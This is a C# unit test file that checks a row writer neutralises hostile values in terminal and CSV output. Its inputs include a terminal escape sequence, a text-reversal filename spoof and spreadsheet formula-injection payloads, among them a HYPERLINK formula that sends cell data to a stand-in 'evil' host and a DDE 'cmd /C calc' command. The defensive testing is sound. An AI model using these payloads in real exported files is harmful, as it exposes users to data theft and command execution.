using Exchange.Hosting.Commands;

namespace Exchange.Hosting.Tests.Commands;

public sealed class RowWriterTests
{
    [Fact]
    public void What_others_wrote_commands_no_terminal_and_ends_no_line()
    {
        var screen = new StringWriter();
        var rows = new RowWriter(screen, RowFormat.Table, ["official"]);
        rows.Write(["a.sato\u001b[2J\nFORGED"]);
        rows.Finish();
        Assert.Equal($"official{Environment.NewLine}a.sato\uFFFD[2J\uFFFDFORGED{Environment.NewLine}", screen.ToString());
    }

    [Theory]
    [InlineData("a.sato\u202Evsc.exe", "a.sato\uFFFDvsc.exe")]
    [InlineData("a\u200Bb\U000E0041c", "a\uFFFDb\uFFFDc")]
    [InlineData("佐藤\U00029E3D", "佐藤\U00029E3D")]
    public void What_others_wrote_turns_no_letters_around_and_hides_none(string value, string seen)
    {
        var screen = new StringWriter();
        var rows = new RowWriter(screen, RowFormat.Table, ["official"]);
        rows.Write([value]);
        rows.Finish();
        Assert.Equal($"official{Environment.NewLine}{seen}{Environment.NewLine}", screen.ToString());
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil/?\"&A1)", "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1)\"")]
    [InlineData("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0")]
    [InlineData("-1", "'-1")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("\r=1", "\"'\r=1\"")]
    [InlineData("case-1=2", "case-1=2")]
    [InlineData("", "")]
    public void What_others_wrote_is_no_formula_in_a_spreadsheet(string value, string written)
    {
        var file = new StringWriter();
        var rows = new RowWriter(file, RowFormat.Csv, ["official", "case_id"]);
        rows.Write([value, "1"]);
        rows.Finish();
        Assert.Equal($"official,case_id{Environment.NewLine}{written},1{Environment.NewLine}", file.ToString());
    }
}
